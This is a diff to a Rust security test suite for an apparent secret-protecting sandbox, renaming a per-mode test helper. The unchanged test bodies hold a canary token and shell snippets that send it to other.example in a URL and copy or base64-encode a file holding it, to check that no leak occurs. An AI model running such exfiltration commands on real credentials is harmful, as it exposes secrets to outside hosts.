@@ -9,7 +9,7 @@ use base64::engine::general_purpose::STANDARD;
 
 use super::{policy, run, traffic};
 use crate::double::Double;
-use crate::support::{Fixture, Mode, Sandboxed, in_each_mode, is_root, said};
+use crate::support::{Fixture, Mode, Sandboxed, in_each_mode_in_turn, is_root, said};
 
 pub(super) const VALUE: &str = "ghp_Zq7TtR2mWx9LkP4vBn8Yc3Hs6Jd1Fg5A";
 
@@ -69,7 +69,7 @@ fn having(top: &Path, forms: &[Vec<u8>]) -> Vec<String> {
 #[test]
 fn sec_001_the_value_is_used_and_nowhere_to_be_found() -> Result<()> {
     let double = Double::start()?;
-    in_each_mode("canary", |env, fixture| {
+    in_each_mode_in_turn("canary", |env, fixture| {
         let shell = r#"
 curl -sS -H "Authorization: Bearer $TOKEN" https://api.example/used
 curl -sS -H "Authorization: Bearer $TOKEN" https://api.example/echo
@@ -135,7 +135,7 @@ true"#;
 #[test]
 fn sec_001_no_trace_has_the_value() -> Result<()> {
     let double = Double::start()?;
-    in_each_mode("traced", |env, fixture| {
+    in_each_mode_in_turn("traced", |env, fixture| {
         let path = policy(fixture, &bound(double.port))?;
         ensure!(env.runs(fixture, &[])?.is_empty());
         let log = fixture.state.join("trace.log");
@@ -181,7 +181,7 @@ curl -sS "https://other.example/query?t=$TOKEN"; true"#;
 #[test]
 fn sec_014_what_holds_the_value_stays_behind() -> Result<()> {
     let double = Double::start()?;
-    in_each_mode("behind", |env, fixture| {
+    in_each_mode_in_turn("behind", |env, fixture| {
         env.put(fixture, "notes.txt", format!("the token is {VALUE}\n"))?;
         let shell = "cp notes.txt copy.txt; base64 -w0 notes.txt > coded.txt; echo fine > fine.txt; cat notes.txt; cat notes.txt >&2; exec /bin/echo \"$(cat notes.txt)\"";
         let result = with_token(env, fixture, &bound(double.port), shell)?;
@@ -207,7 +207,7 @@ fn sec_014_what_holds_the_value_stays_behind() -> Result<()> {
 #[test]
 fn sec_014_nobody_reads_the_gate() -> Result<()> {
     let double = Double::start()?;
-    in_each_mode("memory", |env, fixture| {
+    in_each_mode_in_turn("memory", |env, fixture| {
         let path = policy(fixture, &bound(double.port))?;
         let path = path.to_string_lossy();
         let mut live = env
@@ -234,7 +234,7 @@ fn sec_014_nobody_reads_the_gate() -> Result<()> {
 #[test]
 fn a_secret_that_is_not_there_stops_the_run_and_is_named() -> Result<()> {
     let double = Double::start()?;
-    in_each_mode("missing", |env, fixture| {
+    in_each_mode_in_turn("missing", |env, fixture| {
         let path = policy(fixture, &bound(double.port))?;
         let path = path.to_string_lossy();
         let output = env
